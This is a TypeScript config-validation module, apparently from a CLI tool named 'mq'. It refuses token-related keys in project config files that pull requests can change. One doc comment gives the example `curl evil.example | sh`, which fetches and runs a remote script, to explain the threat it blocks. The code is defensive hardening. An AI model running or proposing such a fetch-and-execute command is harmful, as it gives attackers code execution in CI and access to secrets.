// What a config file may say, checked strictly: a typo'd key would otherwise be silently ignored and the user
// left wondering why their setting has no effect. Every problem names the file and the key. Loaded only with a
// config file (files.ts): building these schemas is start-up time a run without one need not spend.
import * as z from 'zod';
import { formatPath } from '../api/format-path.js';
import { ConfigError } from '../errors.js';
import { BRANCH_PATTERN, checkBranch } from './branch-name.js';
import { API_CHOICES, OUTPUT_FORMATS } from './defaults.js';
import { suggestKey } from './key-suggestion.js';
import { envName, fileKeyDescription, type FileKey } from './setting-rows.js';
import { checkApiUrl, checkRepo, checkTimeout, PROBLEMS, type Checked } from './values.js';
import { IN_ENGLISH } from '../text/in-english.js';

/** A project file sits in the repository and is committed; the user file lives in the user's home. */
export type ConfigFileKind = 'project' | 'user';

/** Runs a check inside a zod transform, so its phrase becomes the issue's message. */
function via<I, T>(check: (input: I) => Checked<T>) {
  return (input: I, ctx: z.core.$RefinementCtx<I>): T => {
    const checked = check(input);
    if (checked.ok) return checked.value;
    ctx.issues.push({ code: 'custom', message: checked.problem, input });
    return z.NEVER;
  };
}

const problemOf = (checked: Checked<unknown>) => (checked.ok ? undefined : checked.problem);
const text = (message: string) => z.string({ error: message }).regex(/\S/, { error: message });
// checkWord's rule as a pattern, with its phrase: the JSON Schema of the file (config-json-schema.ts) carries it.
const word = (message: string) => z.string({ error: message }).regex(/^\S+$/, { error: message });

// The descriptions are what an editor shows over a key (the JSON Schema is generated from these schemas), each
// from the key's row (setting-rows.ts).
const fields = {
  apiUrl: z.string({ error: PROBLEMS.apiUrl }).transform(via(checkApiUrl)).optional().describe(fileKeyDescription('apiUrl')),
  repo: z
    .union([z.string(), z.strictObject({ host: z.string().optional(), owner: z.string(), name: z.string() })], { error: PROBLEMS.repo })
    .transform(via(checkRepo))
    .optional()
    .describe(fileKeyDescription('repo')),
  // git's rules as a pattern, which the JSON Schema carries; the message says which one the name breaks.
  targetBranch: z
    .string({ error: PROBLEMS.targetBranch })
    .regex(new RegExp(BRANCH_PATTERN), { error: (issue) => problemOf(checkBranch(String(issue.input))) })
    .optional()
    .describe(fileKeyDescription('targetBranch')),
  org: word(PROBLEMS.org).optional().describe(fileKeyDescription('org')),
  output: z.enum(OUTPUT_FORMATS, { error: PROBLEMS.output }).optional().describe(fileKeyDescription('output')),
  api: z.enum(API_CHOICES, { error: PROBLEMS.api }).optional().describe(fileKeyDescription('api')),
  timeout: z.union([z.string(), z.number()], { error: PROBLEMS.timeout }).transform(via(checkTimeout)).optional().describe(fileKeyDescription('timeout')),
  tokenCommand: text(PROBLEMS.tokenCommand).optional().describe(fileKeyDescription('tokenCommand')),
  tokenFile: text(PROBLEMS.tokenFile).optional().describe(fileKeyDescription('tokenFile')),
};

const SETTINGS_MAP = 'must be a map of settings (key: value)';

export const ProfileSchema = z.strictObject(fields, { error: SETTINGS_MAP });
export type ProfileValues = z.output<typeof ProfileSchema>;

/** Profiles in a Map: a name such as `__proto__` would reach an object's prototype (and zod's record drops a `__proto__` key). */
export const Profiles = z
  .custom<Record<string, unknown>>((value) => typeof value === 'object' && value !== null && !Array.isArray(value), {
    error: PROBLEMS.profiles,
  })
  .transform((raw, ctx) => {
    const profiles = new Map<string, ProfileValues>();
    for (const [name, value] of Object.entries(raw)) {
      const parsed = ProfileSchema.safeParse(value, IN_ENGLISH);
      if (parsed.success) {
        profiles.set(name, parsed.data);
        continue;
      }
      for (const issue of parsed.error.issues) {
        ctx.issues.push({ ...issue, input: value, path: [name, ...issue.path] } as z.core.$ZodRawIssue);
      }
    }
    return profiles;
  });

/** Every key a config file may hold; the keys of USER_ONLY_KEYS are refused afterwards in project files. */
export const ConfigFileSchema = z.strictObject(
  {
    // Read by editors, ignored by mq: `mq config init` writes it (JSON files; YAML has a comment for it).
    $schema: z.string({ error: 'must be the path or URL of a JSON Schema' }).optional().describe(fileKeyDescription('$schema')),
    ...fields,
    token: text(PROBLEMS.token).optional().describe(fileKeyDescription('token')),
    trustedApiUrls: z
      .array(z.string({ error: PROBLEMS.trustedApiUrls }).transform(via(checkApiUrl)), { error: PROBLEMS.trustedApiUrls })
      .optional()
      .describe(fileKeyDescription('trustedApiUrls')),
    profiles: Profiles.optional().describe(fileKeyDescription('profiles')),
  } satisfies Record<FileKey, z.ZodType>,
  { error: SETTINGS_MAP },
);

export type FileValues = ProfileValues & { token?: string };

export interface ConfigFile {
  path: string;
  kind: ConfigFileKind;
  /** How keys are reached in the file: 'mq.' in package.json, else ''. */
  keyPrefix: string;
  values: FileValues;
  profiles: Map<string, ProfileValues>;
  /** API URLs a project file may send the token to (user file only). */
  trustedApiUrls: string[];
}

/**
 * The keys that decide how the token is obtained and where a project file may send it: only the user file may hold them, since a pull
 * request can change a project file (`tokenCommand: "curl evil.example | sh"` would run in CI).
 */
const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;

const TOKEN_HELP = `use tokenCommand or tokenFile, or set ${envName('token')}`;

/** Validates what cosmiconfig loaded from `path` (`keyPrefix`: 'mq.' in package.json); a ConfigError with one line per problem. */
export function validateConfigFile(path: string, kind: ConfigFileKind, content: unknown, keyPrefix = ''): ConfigFile {
  const problems = (lines: string[]) => new ConfigError(lines.map((line) => `${path}: ${line}`).join('\n'));
  // Before the schema: whatever else is wrong with it, a project file that names these is refused for them.
  if (kind === 'project') {
    const refused = userOnlyKeys(content).map((key) => userOnlyProblem(`${keyPrefix}${key}`, key));
    if (refused.length > 0) throw problems(refused);
  }
  const parsed = ConfigFileSchema.safeParse(content, IN_ENGLISH);
  if (!parsed.success) throw problems(parsed.error.issues.flatMap((issue) => describeIssue(issue, keyPrefix)));
  const { profiles = new Map<string, ProfileValues>(), trustedApiUrls = [], $schema: _editorsOnly, ...values } = parsed.data;
  const levels: [string, FileValues][] = [['', values]];
  for (const [name, profile] of profiles) levels.push([`profiles.${name}.`, profile]);
  for (const [where, level] of levels) {
    const tokenKeys = (['token', 'tokenCommand', 'tokenFile'] as const).filter((key) => level[key] !== undefined);
    if (tokenKeys.length > 1) {
      throw problems([`set only one of ${tokenKeys.map((key) => `"${keyPrefix}${where}${key}"`).join(', ')}`]);
    }
  }
  return { path, kind, keyPrefix, values, profiles, trustedApiUrls };
}

/** The user-only keys `content` holds, at its top level and in its profiles, as paths: `profiles.ci.tokenFile`. */
function userOnlyKeys(content: unknown): string[] {
  const found: string[] = [];
  const look = (level: unknown, where: string) => {
    if (typeof level !== 'object' || level === null || Array.isArray(level)) return;
    for (const key of USER_ONLY_KEYS) if (Object.hasOwn(level, key)) found.push(`${where}${key}`);
  };
  look(content, '');
  if (typeof content === 'object' && content !== null && Object.hasOwn(content, 'profiles')) {
    const profiles: unknown = (content as { profiles: unknown }).profiles;
    if (typeof profiles === 'object' && profiles !== null) {
      for (const [name, profile] of Object.entries(profiles)) look(profile, `profiles.${name}.`);
    }
  }
  return found;
}

function userOnlyProblem(shown: string, key: string): string {
  const why = key.endsWith('trustedApiUrls') ? 'a project file cannot vouch for its own apiUrl' : `move it there, or set ${envName('token')}`;
  return (
    `"${shown}" is not allowed in a project config file, which a pull request can change: only the user config ` +
    `($XDG_CONFIG_HOME/mq/config.yaml, default ~/.config/mq/config.yaml) may set it; ${why}`
  );
}

function describeIssue(issue: z.core.$ZodIssue, keyPrefix: string): string[] {
  const at = formatPath(issue.path);
  if (issue.code === 'unrecognized_keys') {
    return issue.keys.map((key) => {
      const full = `${keyPrefix}${at === '' ? '' : `${at}.`}${key}`;
      if (key === 'token' && at !== '') return `"${full}" is not allowed: a profile cannot hold a token; ${TOKEN_HELP}`;
      const meant = suggestKey(key, keysAt(issue.path));
      return `unknown key "${full}"${meant === undefined ? '' : `; did you mean "${meant}"?`}`;
    });
  }
  if (at === '') return [keyPrefix === '' ? SETTINGS_MAP : `"${keyPrefix.slice(0, -1)}" ${SETTINGS_MAP}`];
  return [`"${keyPrefix}${at}" ${issue.message}`];
}

/** The keys an object at `path` of the file may hold: the file's own, a profile's, or a repo's. */
function keysAt(path: readonly PropertyKey[]): string[] {
  if (path.length === 0) return Object.keys(ConfigFileSchema.shape);
  if (path.at(-1) === 'repo') return ['host', 'owner', 'name'];
  return Object.keys(fields);
}
